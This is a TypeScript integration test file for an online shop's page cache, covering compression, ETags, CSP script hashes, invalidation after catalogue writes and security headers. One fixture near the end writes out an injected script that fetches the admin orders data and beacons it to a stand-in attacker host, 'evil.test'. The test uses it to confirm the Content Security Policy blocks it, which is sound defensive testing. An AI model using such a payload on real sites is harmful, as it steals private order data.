/**
 * The page cache (docs/decisions/0010, 0016) on the real app: public pages are kept, compressed,
 * with their inline scripts allowed by hash, validated with ETags, and a write to the catalogue or
 * the blog makes the next request render anew, in the process that wrote and in another one on
 * the same database.
 */
import { createHash } from "node:crypto";
import { createServer, type RequestListener, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { brotliDecompressSync, gunzipSync } from "node:zlib";
import { eq, sql } from "drizzle-orm";
import type { ServerBuild } from "react-router";
import { beforeAll, describe, expect, inject, it, onTestFinished } from "vitest";
import { permissionsPolicy } from "~/server/security-headers.server";
import { readShopSettings, saveShopSettings } from "~/shop/shop-settings.server";
import { savePolicy } from "~/policies/policies.server";
import { readContentVersion } from "~db/content-version";
import { articles, colorVariants, items, orderRequests } from "~db/schema";
import { stateDemoSeller } from "~db/demo/seller";
import { httpShops, type HttpShop } from "../support/http-shop";
import { getRaw as getRawResponse } from "../support/raw-http";

const onPostgres = inject("testDb") === "postgres";

type Shop = HttpShop;

const shops = httpShops();
const build = shops.build;
const newDatabaseUrl = shops.newDatabaseUrl;
const openShop = (databaseUrl?: string, env: Record<string, string> = {}, appBuild = build) => shops.open({ databaseUrl, env, build: appBuild });

async function get(shop: Shop, pathname: string, headers: Record<string, string> = {}) {
  const response = await fetch(shop.url + pathname, { headers: { "accept-language": "en", ...headers }, redirect: "manual" });
  return { response, html: await response.text() };
}

/** The page as sent, undecoded. */
async function getRaw(shop: Shop, pathname: string, acceptEncoding: string) {
  const response = await getRawResponse(shop.url + pathname, { "accept-language": "en", "accept-encoding": acceptEncoding });
  return { encoding: response.headers["content-encoding"], body: response.body };
}

/** The nonce the response's policy allows, and every nonce its HTML carries. */
function nonces(response: Response, html: string) {
  const allowed = /'nonce-([^']+)'/.exec(response.headers.get("content-security-policy") ?? "")?.[1];
  return { allowed, used: [...new Set([...html.matchAll(/nonce="([^"]*)"/g)].map((m) => m[1]))] };
}

/** Each executable inline script of the page, by the hash a policy names it with (data blocks run nothing). */
function scriptHashes(html: string): string[] {
  const texts = [...html.matchAll(/<script(?![^>]*\ssrc=)(?![^>]*type="application\/ld\+json")[^>]*>([\s\S]*?)<\/script>/g)].map((m) => m[1]);
  return [...new Set(texts.map((text) => `'sha256-${createHash("sha256").update(text).digest("base64")}'`))];
}

/**
 * The page after a write: on PostgreSQL another connection's write reaches the process as a
 * notice, a moment after the writer's commit (on PGlite before the write's promise settles). The
 * first answer that is not the kept page is returned, or the last one after two seconds.
 */
async function afterWrite(shop: Shop, pathname: string, headers: Record<string, string> = {}) {
  const deadline = Date.now() + 2_000;
  for (;;) {
    const page = await get(shop, pathname, headers);
    if (page.response.headers.get("x-page-cache") !== "hit" && page.response.status !== 304) return page;
    if (Date.now() > deadline) return page;
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
}

/**
 * Waits, without asking for any page, until the process knows of the last write (on PostgreSQL its
 * notice comes a moment after the commit) and has rendered again every page it keeps from before it.
 */
async function refreshedInBackground(shop: Shop) {
  const current = await readContentVersion(shop.database.db);
  const version = `${current}.${new Date().getFullYear()}`;
  // Polled by hand: hooks (beforeAll) call it too, where expect.poll is not allowed.
  const deadline = Date.now() + 5_000;
  while ((await shop.knownContentVersion()) !== current || shop.pageCache.toRefresh(version, 1_000).length > 0) {
    if (Date.now() > deadline) throw new Error("the process did not render its kept pages again within 5 s of the write");
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
}

async function addItem(shop: Shop, slug: string, name: string) {
  const [item] = await shop.database.db
    .insert(items)
    .values({ slug, nameI18n: { en: name, it: name, fr: name }, price: 25, stock: 3 })
    .returning();
  return item;
}

describe("kept pages answered before Express", () => {
  it("carry the shop's headers, and HSTS only when a trusted proxy says the visit is over HTTPS", async () => {
    const behindProxy = await openShop(await newDatabaseUrl(), { TRUST_PROXY: "loopback" });
    await addItem(behindProxy, "market-bag", "Market bag");
    const https = { "x-forwarded-proto": "https" };
    expect((await get(behindProxy, "/product/market-bag", https)).response.headers.get("x-page-cache")).toBe("miss");
    const kept = (await get(behindProxy, "/product/market-bag", https)).response.headers;
    expect(kept.get("x-page-cache")).toBe("hit");
    expect(kept.get("strict-transport-security")).toMatch(/^max-age=31536000; includeSubDomains$/);
    expect(kept.get("x-content-type-options")).toBe("nosniff");
    expect(kept.get("x-frame-options")).toBe("DENY");
    expect(kept.get("referrer-policy")).toBe("strict-origin-when-cross-origin");
    expect(kept.get("cross-origin-opener-policy")).toBe("same-origin");
    const overHttp = (await get(behindProxy, "/product/market-bag")).response.headers;
    expect(overHttp.get("x-page-cache")).toBe("hit");
    expect(overHttp.get("strict-transport-security")).toBeNull();

    const direct = await openShop(await newDatabaseUrl());
    await addItem(direct, "market-bag", "Market bag");
    await get(direct, "/product/market-bag", https);
    const untrusted = (await get(direct, "/product/market-bag", https)).response.headers;
    expect(untrusted.get("x-page-cache")).toBe("hit");
    expect(untrusted.get("strict-transport-security")).toBeNull();
  });
});

describe("kept pages answered at once", () => {
  it("go out in the turn the request arrives in, with the headers Express would send for them", async () => {
    const shop = await openShop(await newDatabaseUrl(), { TRUST_PROXY: "loopback" });
    await addItem(shop, "market-bag", "Market bag");
    await refreshedInBackground(shop);
    // The shop's own listener, noting whether each answer was complete when it returned.
    const endedAtOnce: boolean[] = [];
    const atOnce = await listen((req, res) => {
      shop.handle(req, res);
      endedAtOnce.push(res.writableEnded);
    });
    // Express alone, as every request went before kept pages were answered ahead of it.
    const throughExpress = await listen(shop.app);
    const block = (headers: Record<string, string | string[] | undefined>) =>
      Object.entries(headers)
        .filter(([name]) => !["date", "connection", "keep-alive"].includes(name))
        .sort(([a], [b]) => a.localeCompare(b));
    const arrivals: [string, Record<string, string>][] = [
      ["/product/market-bag", { "accept-encoding": "gzip" }],
      ["/product/market-bag?fbclid=IwAR3visitor&utm_source=instagram", { "accept-encoding": "br, gzip" }],
      ["/product/market-bag?lng=fr", {}],
      ["/product/market-bag", { "x-forwarded-proto": "https", "accept-encoding": "gzip" }],
    ];
    for (const [address, headers] of arrivals) {
      await getRawResponse(atOnce + address, { "accept-language": "en", ...headers });
      endedAtOnce.length = 0;
      const kept = await getRawResponse(atOnce + address, { "accept-language": "en", ...headers });
      expect(endedAtOnce, address).toEqual([true]);
      expect(kept.headers["x-page-cache"], address).toBe("hit");
      const express = await getRawResponse(throughExpress + address, { "accept-language": "en", ...headers });
      expect(block(kept.headers), address).toEqual(block(express.headers));
      expect(kept.body.equals(express.body), address).toBe(true);
    }
    // A signed-in visit is never answered from the kept page, at once or later.
    endedAtOnce.length = 0;
    const signedIn = await getRawResponse(atOnce + "/product/market-bag", { "accept-language": "en", cookie: "shop.session_token=abc" });
    expect(endedAtOnce).toEqual([false]);
    expect(signedIn.headers["x-page-cache"]).toBeUndefined();
    expect(signedIn.headers["cache-control"]).toBe("private, no-store");
  });
});

/** A Node HTTP server on a free port for this listener, closed after the test; its address. */
async function listen(listener: RequestListener): Promise<string> {
  const server = await new Promise<Server>((resolve) => {
    const listening = createServer(listener).listen(0, "127.0.0.1", () => resolve(listening));
  });
  onTestFinished(() => new Promise<void>((resolve) => server.close(() => resolve())));
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
}

describe("the page cache in one process", () => {
  let shop: Shop;
  beforeAll(async () => {
    shop = await openShop(await newDatabaseUrl());
    await addItem(shop, "market-bag", "Market bag");
    await refreshedInBackground(shop);
  });

  it("keeps a public page and sends it again as it is, its inline scripts allowed by hash", async () => {
    const first = await get(shop, "/product/market-bag");
    const second = await get(shop, "/product/market-bag");
    expect(first.response.status).toBe(200);
    expect(first.response.headers.get("x-page-cache")).toBe("miss");
    expect(second.response.headers.get("x-page-cache")).toBe("hit");
    expect(second.html).toContain("Market bag");
    expect(second.html).toBe(first.html);
    expect(nonces(second.response, second.html)).toEqual({ allowed: undefined, used: [] });
    const policy = second.response.headers.get("content-security-policy")!;
    const hashes = scriptHashes(second.html);
    expect(hashes.length).toBeGreaterThan(0);
    expect(/script-src ([^;]*)/.exec(policy)![1].split(" ")).toEqual(["'self'", ...hashes]);
    expect(policy).toContain("frame-ancestors 'none'");
  });

  it("sends a kept page in brotli or gzip, whichever the browser takes, with the same text", async () => {
    const { html } = await get(shop, "/product/market-bag");
    const br = await getRaw(shop, "/product/market-bag", "gzip, deflate, br");
    expect(br.encoding).toBe("br");
    expect(brotliDecompressSync(br.body).toString()).toBe(html);
    const gzip = await getRaw(shop, "/product/market-bag", "gzip");
    expect(gzip.encoding).toBe("gzip");
    expect(gunzipSync(gzip.body).toString()).toBe(html);
    const plain = await getRaw(shop, "/product/market-bag", "identity");
    expect(plain.encoding).toBeUndefined();
    expect(plain.body.toString()).toBe(html);
  });

  it("sends a page it does not keep compressed whole, in the encoding the browser takes, with its length", async () => {
    // /auth is rendered for every visitor: its nonce differs each time, so compare what is around it.
    const sameNonce = (html: string) => html.replace(/nonce="[^"]*"/g, 'nonce=""');
    const { html } = await get(shop, "/auth");
    for (const [accepted, encoding, decode] of [
      ["gzip, deflate, br", "br", brotliDecompressSync],
      ["gzip", "gzip", gunzipSync],
      ["identity", undefined, (body: Buffer) => body],
    ] as const) {
      const raw = await getRawResponse(shop.url + "/auth", { "accept-language": "en", "accept-encoding": accepted });
      expect(raw.headers["content-encoding"], accepted).toBe(encoding);
      expect(raw.headers["vary"]).toMatch(/Accept-Encoding/);
      expect(Number(raw.headers["content-length"])).toBe(raw.body.length);
      expect(sameNonce(decode(raw.body).toString())).toBe(sameNonce(html));
    }
  });

  it("sends later visitors the kept page compressed harder, with the same text", async () => {
    const first = await getRaw(shop, "/catalog", "br");
    const html = brotliDecompressSync(first.body).toString();
    expect(html).toContain("Market bag");
    // Quality 11 runs after the first answer; a later visitor gets the smaller copy.
    const deadline = Date.now() + 5_000;
    let later = await getRaw(shop, "/catalog", "br");
    while (later.body.length >= first.body.length && Date.now() < deadline) {
      await new Promise((resolve) => setTimeout(resolve, 20));
      later = await getRaw(shop, "/catalog", "br");
    }
    expect(later.body.length).toBeLessThan(first.body.length);
    expect(brotliDecompressSync(later.body).toString()).toBe(html);
  });

  it("renders a page once for a burst of requests that all find it missing", async () => {
    await addItem(shop, "granny-blanket", "Granny blanket");
    await refreshedInBackground(shop);
    const burst = await Promise.all(Array.from({ length: 12 }, () => get(shop, "/product/granny-blanket")));
    const states = burst.map((page) => page.response.headers.get("x-page-cache"));
    expect(states.filter((state) => state === "miss")).toHaveLength(1);
    expect(states.filter((state) => state === "hit")).toHaveLength(11);
    expect(new Set(burst.map((page) => page.html)).size).toBe(1);
  });

  it("gives a page it does not keep a nonce of its own each time", async () => {
    const [first, second] = [await get(shop, "/auth"), await get(shop, "/auth")];
    const [a, b] = [nonces(first.response, first.html), nonces(second.response, second.html)];
    expect(a.used).toEqual([a.allowed]);
    expect(b.used).toEqual([b.allowed]);
    expect(a.allowed).not.toBe(b.allowed);
  });

  it("lets browsers and shared caches keep it only while it is current, per language", async () => {
    const { response } = await get(shop, "/catalog");
    expect(response.headers.get("cache-control")).toBe("public, max-age=0, must-revalidate");
    expect(response.headers.get("vary")).toMatch(/Cookie, Accept-Language/);
    expect(response.headers.get("etag")).toMatch(/^W\/"[\w-]+"$/);
    const french = await get(shop, "/catalog", { "accept-language": "fr" });
    expect(french.html).toContain('<html lang="fr"');
    expect(french.response.headers.get("etag")).not.toBe(response.headers.get("etag"));
  });

  it("answers 304 to a current ETag, and the new page once an item changes", async () => {
    const { response } = await get(shop, "/product/market-bag");
    const etag = response.headers.get("etag")!;
    const { response: unchanged } = await get(shop, "/product/market-bag", { "if-none-match": etag });
    expect(unchanged.status).toBe(304);

    await shop.database.db.update(items).set({ nameI18n: { en: "Market tote" } }).where(eq(items.slug, "market-bag"));
    const changed = await afterWrite(shop, "/product/market-bag", { "if-none-match": etag });
    expect(changed.response.status).toBe(200);
    expect(changed.response.headers.get("x-page-cache")).toBe("miss");
    expect(changed.html).toContain("Market tote");
    expect(changed.response.headers.get("etag")).not.toBe(etag);
  });

  it("keeps the page through a write that changes no row, and through a new order request", async () => {
    await get(shop, "/product/market-bag");
    await shop.database.db.update(items).set({ stock: 9 }).where(eq(items.slug, "no-such-item"));
    await shop.database.db
      .insert(orderRequests)
      .values({ customerName: "Ada", customerEmail: "ada@example.com", language: "en", lines: [], total: 0 });
    expect((await get(shop, "/product/market-bag")).response.headers.get("x-page-cache")).toBe("hit");
  });

  it("shows stock taken by an order at once (a colour sold out)", async () => {
    const item = await addItem(shop, "beanie", "Beanie");
    await shop.database.db.update(items).set({ hasColorVariants: true }).where(eq(items.id, item.id));
    const [variant] = await shop.database.db
      .insert(colorVariants)
      .values({ itemId: item.id, colorNameI18n: { en: "Moss" }, colorHex: "#4a6b3a", stock: 2 })
      .returning();
    const before = await get(shop, "/product/beanie");
    await get(shop, "/product/beanie");
    await shop.database.db.update(colorVariants).set({ stock: 0 }).where(eq(colorVariants.id, variant.id));
    const after = await afterWrite(shop, "/product/beanie");
    expect(after.response.headers.get("x-page-cache")).toBe("miss");
    expect(after.html).not.toBe(before.html);
  });

  it("answers a visit carrying a stranger's cookie from the kept page, as it answers one with none", async () => {
    const kept = await get(shop, "/catalog");
    for (const cookie of ["x=1", "_ga=GA1.1.123; lng=en", "consent=yes"]) {
      const { response, html } = await get(shop, "/catalog", { cookie });
      expect(response.headers.get("x-page-cache"), cookie).toBe("hit");
      expect(html, cookie).toBe(kept.html);
    }
  });

  it("never keeps the cart, the back office, sign-in, a signed-in visit or a language chosen in the URL", async () => {
    const visits: [string, Record<string, string>][] = [
      ["/cart", {}],
      ["/auth", {}],
      ["/admin", {}],
      ["/catalog", { cookie: "shop.session_token=abc" }],
      ["/cart?lng=fr", {}],
      ["/robots.txt", {}],
    ];
    for (const [pathname, headers] of visits) {
      await get(shop, pathname, headers);
      const { response } = await get(shop, pathname, headers);
      expect(response.headers.get("x-page-cache"), pathname).toBeNull();
      expect(response.headers.get("etag"), pathname).toBeNull();
    }
    const { response } = await get(shop, "/auth");
    expect(response.headers.get("cache-control")).toBe("private, no-store");
    expect(response.headers.get("content-security-policy")).toContain("frame-ancestors 'none'");
  });

  it("answers a language chosen in the address from the kept page of that language, with the cookie as a header", async () => {
    const kept = await get(shop, "/product/market-bag", { cookie: "lng=fr" });
    const chosen = await get(shop, "/product/market-bag?lng=fr");
    expect(chosen.response.headers.get("x-page-cache")).toBe("hit");
    expect(chosen.html).toBe(kept.html);
    expect(chosen.html).toContain('<html lang="fr"');
    expect(chosen.response.headers.get("set-cookie")).toBe("lng=fr; Max-Age=31536000; Path=/; SameSite=Lax");
    expect(chosen.response.headers.get("etag")).toBe(kept.response.headers.get("etag"));
    // The kept bytes never hold the cookie: the same page without `?lng=` sets none.
    expect((await get(shop, "/product/market-bag", { cookie: "lng=fr" })).response.headers.get("set-cookie")).toBeNull();
    // A product feed asked for in a language is read by a platform's robot: it remembers nothing.
    const feed = await get(shop, "/feeds/google.xml?lng=fr");
    expect(feed.response.status).toBe(200);
    expect(feed.response.headers.get("set-cookie")).toBeNull();
    // A page first asked for through `?lng=` is kept for everyone who reads that language.
    const first = await get(shop, "/about?lng=en&fbclid=first");
    expect(first.response.headers.get("x-page-cache")).toBe("miss");
    expect(first.response.headers.get("set-cookie")).toMatch(/^lng=en;/);
    const later = await get(shop, "/about", { cookie: "lng=en" });
    expect(later.response.headers.get("x-page-cache")).toBe("hit");
    expect(later.html).toBe(first.html);
    // A 304 to a `?lng=` address still remembers the choice.
    const revalidated = await get(shop, "/about?lng=en", { "if-none-match": first.response.headers.get("etag")! });
    expect(revalidated.response.status).toBe(304);
    expect(revalidated.response.headers.get("set-cookie")).toMatch(/^lng=en;/);
  });

  it("answers addresses with tracking parameters, in any order, from the kept page of the clean address", async () => {
    const clean = await get(shop, "/product/market-bag");
    const tracked = [
      "/product/market-bag?fbclid=IwAR3tracked-visitor",
      "/product/market-bag?utm_source=instagram&utm_medium=social&utm_campaign=tracked-visitor",
      "/product/market-bag?gclid=tracked-visitor&_ga=2.1&ref=",
      "/product/%6Darket-bag?mc_cid=tracked-visitor&igshid=x",
    ];
    for (const address of tracked) {
      const page = await get(shop, address);
      expect(page.response.headers.get("x-page-cache"), address).toBe("hit");
      expect(page.html, address).toBe(clean.html);
      expect(page.html, address).not.toContain("tracked-visitor");
      expect(page.response.headers.get("set-cookie"), address).toBeNull();
    }
    await get(shop, "/catalog?sort=price-desc&page=1");
    const reordered = await get(shop, "/catalog?utm_source=mail&page=&sort=price-desc");
    expect(reordered.response.headers.get("x-page-cache")).toBe("hit");
    // The page's canonical link already names the clean address.
    expect(clean.html).toMatch(/<link rel="canonical" href="[^"]*\/product\/market-bag\?lng=en"\/>/);
  });

  it("answers HEAD with the headers GET gets, from the kept page", async () => {
    const got = await get(shop, "/product/market-bag?lng=en", { "accept-encoding": "gzip" });
    const head = await fetch(`${shop.url}/product/market-bag?lng=en`, { method: "HEAD", headers: { "accept-language": "en", "accept-encoding": "gzip" } });
    expect(head.status).toBe(200);
    expect(await head.text()).toBe("");
    const names = (headers: Headers) => [...headers.keys()].filter((name) => !["date", "keep-alive", "connection"].includes(name)).sort();
    expect(names(head.headers)).toEqual(names(got.response.headers));
    for (const name of names(got.response.headers)) expect(head.headers.get(name), name).toBe(got.response.headers.get(name));
    // A HEAD that finds nothing kept renders the page, keeps it and still sends no body.
    await addItem(shop, "head-first", "Head first");
    // On PostgreSQL the write's notice comes a moment later; a page rendered before it would be
    // kept under the version before the write.
    await refreshedInBackground(shop);
    const miss = await fetch(`${shop.url}/product/head-first`, { method: "HEAD", headers: { "accept-language": "en" } });
    expect(miss.headers.get("x-page-cache")).toBe("miss");
    expect(Number(miss.headers.get("content-length"))).toBeGreaterThan(1000);
    expect(await miss.text()).toBe("");
    expect((await get(shop, "/product/head-first")).response.headers.get("x-page-cache")).toBe("hit");
  });

  it("renders the kept pages again in the background after a write, so the next visitors find them kept", async () => {
    await addItem(shop, "refresh-me", "Refresh me");
    await refreshedInBackground(shop);
    for (const address of ["/", "/catalog", "/product/refresh-me"]) {
      await get(shop, address);
      expect((await get(shop, address)).response.headers.get("x-page-cache"), address).toBe("hit");
    }
    await shop.database.db.update(items).set({ nameI18n: { en: "Refreshed" } }).where(eq(items.slug, "refresh-me"));
    await refreshedInBackground(shop);
    for (const address of ["/", "/catalog", "/product/refresh-me"]) {
      const page = await get(shop, address);
      expect(page.response.headers.get("x-page-cache"), address).toBe("hit");
      expect(page.html, address).toContain("Refreshed");
    }
  });

  it("renders every kept page again with the shop's new name and e-mail after the Settings page saves them", async () => {
    const addresses = ["/", "/about", "/catalog", "/blog"];
    for (const address of addresses) {
      await get(shop, address);
      expect((await get(shop, address)).response.headers.get("x-page-cache"), address).toBe("hit");
    }
    await saveShopSettings(
      { db: shop.database.db, config: { settingsFromEnv: {} } },
      { shopName: "Maria's Hooks", orderEmail: "maria@example.com", instagramUrl: null, aboutIntro: { en: "By the sea.", it: null, fr: null }, aboutStory: { en: null, it: null, fr: null }, shipping: null, returns: null },
    );
    await refreshedInBackground(shop);
    for (const address of addresses) {
      const page = await get(shop, address);
      expect(page.html, address).toContain("Maria&#x27;s Hooks");
      expect(page.html, address).toContain("mailto:maria@example.com");
    }
    expect((await get(shop, "/about")).html).toContain("By the sea.");
  });

  it("renders a kept legal page again after the owner edits it in the back office", async () => {
    // Legal pages speak for a seller named in full (docs/product/storefront.md#legal-pages).
    await stateDemoSeller(shop.database.db);
    await refreshedInBackground(shop);
    await get(shop, "/policies/terms");
    expect((await get(shop, "/policies/terms")).response.headers.get("x-page-cache")).toBe("hit");
    await savePolicy(shop.database.db, "terms", { en: "<p>My own terms, reviewed.</p>" }, await readShopSettings({ db: shop.database.db, config: { settingsFromEnv: {} } }));
    await refreshedInBackground(shop);
    const page = await get(shop, "/policies/terms");
    expect(page.response.headers.get("x-page-cache")).toBe("hit");
    expect(page.html).toContain("My own terms, reviewed.");
  });

  it("keeps a filtered catalog view and renders it anew after an article is published", async () => {
    await get(shop, "/catalog?sort=price-asc");
    expect((await get(shop, "/catalog?sort=price-asc")).response.headers.get("x-page-cache")).toBe("hit");
    await shop.database.db
      .insert(articles)
      .values({ slug: "new-yarn", titleI18n: { en: "New yarn" }, contentI18n: { en: "<p>Soft</p>" }, published: true, publishedAt: new Date() });
    expect((await afterWrite(shop, "/catalog?sort=price-asc")).response.headers.get("x-page-cache")).toBe("miss");
    expect((await get(shop, "/blog")).html).toContain("New yarn");
  });
});

describe.runIf(onPostgres)("the page cache across processes on one PostgreSQL database", () => {
  let first: Shop;
  let second: Shop;
  beforeAll(async () => {
    const url = await newDatabaseUrl();
    first = await openShop(url);
    second = await openShop(url);
    await addItem(first, "shawl", "Shawl");
  });

  it("serves the next request after another process's write from the database, not from its cache", async () => {
    await get(first, "/product/shawl");
    expect((await get(first, "/product/shawl")).response.headers.get("x-page-cache")).toBe("hit");
    const etag = (await get(first, "/product/shawl")).response.headers.get("etag")!;

    await second.database.db.update(items).set({ nameI18n: { en: "Summer shawl" } }).where(eq(items.slug, "shawl"));

    const after = await afterWrite(first, "/product/shawl", { "if-none-match": etag });
    expect(after.response.status).toBe(200);
    expect(after.response.headers.get("x-page-cache")).toBe("miss");
    expect(after.html).toContain("Summer shawl");
    // And the second process, which never showed the page, agrees on its validator.
    const fromSecond = await get(second, "/product/shawl");
    expect(fromSecond.response.headers.get("etag")).toBe(after.response.headers.get("etag"));
  });

  it("renders a page it cannot keep from its kept reads, and from the database again after another process's write", async () => {
    // A signed-in visit is never kept: every request is rendered, its rows read through the reads
    // kept for the content version (docs/decisions/0045).
    const visitor = { cookie: "shop.session_token=abc" };
    const before = await get(first, "/product/shawl", visitor);
    expect(before.response.headers.get("x-page-cache")).toBeNull();
    await second.database.db.update(items).set({ nameI18n: { en: "Autumn shawl" } }).where(eq(items.slug, "shawl"));
    await expect.poll(async () => (await get(first, "/product/shawl", visitor)).html, { timeout: 5_000, interval: 20 }).toContain("Autumn shawl");
  });

  it("renders the other process's kept pages again in the background after a write", async () => {
    await addItem(first, "cardigan", "Cardigan");
    // Kept once the second process has heard of the new item too.
    const cacheState = async () => (await get(second, "/product/cardigan")).response.headers.get("x-page-cache");
    await expect.poll(cacheState, { timeout: 5_000, interval: 20 }).toBe("hit");
    await first.database.db.update(items).set({ nameI18n: { en: "Long cardigan" } }).where(eq(items.slug, "cardigan"));
    await refreshedInBackground(second);
    const page = await get(second, "/product/cardigan");
    expect(page.response.headers.get("x-page-cache")).toBe("hit");
    expect(page.html).toContain("Long cardigan");
  });

  it("shows writes at once while its listening connection is lost, and listens again", async () => {
    const listeners = async () =>
      (
        (await second.database.db.execute(
          sql`SELECT pid FROM pg_stat_activity WHERE datname = current_database() AND query = 'LISTEN content_version'`,
        )) as unknown as { rows: { pid: number }[] }
      ).rows.map((row) => row.pid);
    expect(await listeners()).toHaveLength(2);
    for (const pid of await listeners()) await second.database.db.execute(sql`SELECT pg_terminate_backend(${pid})`);
    await get(first, "/product/shawl");
    await second.database.db.update(items).set({ nameI18n: { en: "Winter shawl" } }).where(eq(items.slug, "shawl"));
    // No notice can come now, and the kept version is trusted for 5 s: within 2 s the process
    // must have noticed the lost connection and read the version itself.
    expect((await afterWrite(first, "/product/shawl")).html).toContain("Winter shawl");
    await expect.poll(listeners, { timeout: 5_000, interval: 100 }).toHaveLength(2);
  });
});

describe("what no cache may keep, and what every answer says (docs/decisions/0032)", () => {
  /** An inline script that reached a page's content, as an HTML injection anywhere in it would. */
  const injected = "<script>fetch('/admin/orders.data').then((r) => r.text()).then(navigator.sendBeacon.bind(navigator, '//evil.test'))</script>";
  const injectedText = /<script>([\s\S]*?)<\/script>/.exec(injected)![1];
  let shop: Shop;
  beforeAll(async () => {
    // The app as built, but every page it renders carries the injected script in its main content.
    const injecting = async (): Promise<ServerBuild> => {
      const app = await build();
      const render = app.entry.module.default;
      const withInjection: typeof render = async (...args) => {
        const response = await render(...args);
        if (!response.headers.get("content-type")?.startsWith("text/html")) return response;
        const html = (await response.text()).replace("</main>", `${injected}</main>`);
        return new Response(html, { status: response.status, headers: response.headers });
      };
      return { ...app, entry: { ...app.entry, module: { ...app.entry.module, default: withInjection } } };
    };
    shop = await openShop(await newDatabaseUrl(), {}, injecting);
    await addItem(shop, "market-bag", "Market bag");
  });

  it("allows on a kept page only the inline scripts the shop wrote, never one injected into its content", async () => {
    await get(shop, "/product/market-bag");
    const { response, html } = await get(shop, "/product/market-bag");
    expect(response.headers.get("x-page-cache")).toBe("hit");
    expect(html).toContain(injected);
    const allowed = /script-src ([^;]*)/.exec(response.headers.get("content-security-policy")!)![1].split(" ");
    expect(allowed).not.toContain(`'sha256-${createHash("sha256").update(injectedText).digest("base64")}'`);
    // The shop's own scripts still run: every other inline script that runs code is allowed.
    const own = scriptHashes(html.replace(injected, ""));
    expect(own.length).toBeGreaterThan(0);
    expect(allowed).toEqual(["'self'", ...own]);
  });

  it("marks every answer that is not a kept page private and unstorable, data and JSON included", async () => {
    const answers: [string, RequestInit?][] = [
      ["/admin/orders.data"],
      ["/admin/orders"],
      ["/catalog.data"],
      ["/product/market-bag.data"],
      ["/cart.data"],
      ["/cart"],
      ["/cart/lines"],
      ["/no-such-page"],
      ["/healthz"],
      ["/order-requests", { method: "POST", headers: { origin: shop.url, "content-type": "application/x-www-form-urlencoded" }, body: "name=x" }],
    ];
    for (const [pathname, init] of answers) {
      const response = await fetch(shop.url + pathname, { redirect: "manual", ...init });
      expect(response.headers.get("cache-control"), pathname).toBe("private, no-store");
      expect(response.headers.get("permissions-policy"), pathname).toBe(permissionsPolicy);
      await response.body?.cancel();
    }
  });

  it("turns off the browser features the shop never uses on kept pages, their 304s and files too", async () => {
    await get(shop, "/catalog");
    const kept = await get(shop, "/catalog");
    expect(kept.response.headers.get("x-page-cache")).toBe("hit");
    const notModified = await get(shop, "/catalog", { "if-none-match": kept.response.headers.get("etag")! });
    expect(notModified.response.status).toBe(304);
    const robots = await fetch(`${shop.url}/robots.txt`);
    for (const response of [kept.response, notModified.response, robots]) {
      expect(response.headers.get("permissions-policy")).toBe(permissionsPolicy);
    }
    expect(permissionsPolicy).toMatch(/camera=\(\).*geolocation=\(\).*microphone=\(\).*payment=\(\).*usb=\(\)/);
  });
});
